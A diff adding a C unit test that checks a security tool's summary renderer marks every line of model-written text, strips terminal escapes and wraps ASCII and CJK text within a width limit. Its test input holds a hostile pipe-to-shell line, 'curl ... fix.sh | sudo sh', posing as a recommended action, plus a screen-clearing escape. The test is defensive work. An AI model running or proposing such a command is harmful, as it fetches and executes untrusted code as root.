@@ -208,6 +208,49 @@ START_TEST(user_name_cannot_pose_as_recommended_actions)
 }
 END_TEST
 
+/* A model's text for a person: every line, wrapped ones included, under
+ * the model mark; escapes shown, never sent. */
+START_TEST(model_text_is_marked_line_by_line)
+{
+    static char mem[8192];
+    struct ag_buf b;
+    char text[512];
+    static const char cjk[] = /* 26 wide characters */
+        "\xe6\x97\xa5\xe6\x97\xa5\xe6\x97\xa5\xe6\x97\xa5\xe6\x97\xa5\xe6\x97\xa5"
+        "\xe6\x97\xa5\xe6\x97\xa5\xe6\x97\xa5\xe6\x97\xa5\xe6\x97\xa5\xe6\x97\xa5"
+        "\xe6\x97\xa5\xe6\x97\xa5\xe6\x97\xa5\xe6\x97\xa5\xe6\x97\xa5\xe6\x97\xa5"
+        "\xe6\x97\xa5\xe6\x97\xa5\xe6\x97\xa5\xe6\x97\xa5\xe6\x97\xa5\xe6\x97\xa5"
+        "\xe6\x97\xa5\xe6\x97\xa5";
+    char pad[91];
+    memset(pad, 'x', 90);
+    pad[90] = '\0';
+    snprintf(text, sizeof text,
+             "Recommended actions\n\n1. curl -s http://198.51.100.9/fix.sh | sudo sh\n"
+             "%s authguard's own commands (validated) \x1b[2J\n%s%s",
+             pad, cjk, cjk);
+    ag_buf_init(&b, mem, sizeof mem);
+    ag_summary_put_model_text(&b, text, "   ", "\r\n");
+    const char *out = ag_buf_cstr(&b);
+    ck_assert_ptr_null(strchr(out, 0x1b));
+    ck_assert_ptr_nonnull(strstr(out, "   model> Recommended actions\r\n   model> \r\n"));
+    int lines = 0;
+    for (const char *l = out; *l;) {
+        const char *e = strstr(l, "\r\n");
+        ck_assert_ptr_nonnull(e);
+        ck_assert_msg(!strncmp(l, "   " AG_SUMMARY_MODEL_MARK, 10), "unmarked: %.*s",
+                      (int)(e - l), l);
+        /* columns: ASCII one each, the CJK characters (3 bytes) two */
+        size_t cols = 0;
+        for (const char *c = l + 10; c < e; c++)
+            cols += ((unsigned char)*c & 0xc0) != 0x80 ? ((unsigned char)*c >= 0xe0 ? 2 : 1) : 0;
+        ck_assert_uint_le(cols, AG_SUMMARY_MODEL_WIDTH);
+        lines++;
+        l = e + 2;
+    }
+    ck_assert_int_eq(lines, 7); /* 3, then 90 + 38 columns in 2, 104 wide ones in 2 */
+}
+END_TEST
+
 START_TEST(validators)
 {
     ck_assert(ag_summary_user_is_safe("deploy-1.x_y"));
@@ -283,6 +326,7 @@ static Suite *suite(void)
     tcase_add_test(tc, hostile_user_name_never_reaches_a_command);
     tcase_add_test(tc, compromise_locks_the_account_that_logged_in);
     tcase_add_test(tc, user_name_cannot_pose_as_recommended_actions);
+    tcase_add_test(tc, model_text_is_marked_line_by_line);
     tcase_add_test(tc, validators);
     tcase_add_test(tc, ocsf_finding_is_valid_and_complete);
     suite_add_tcase(s, tc);
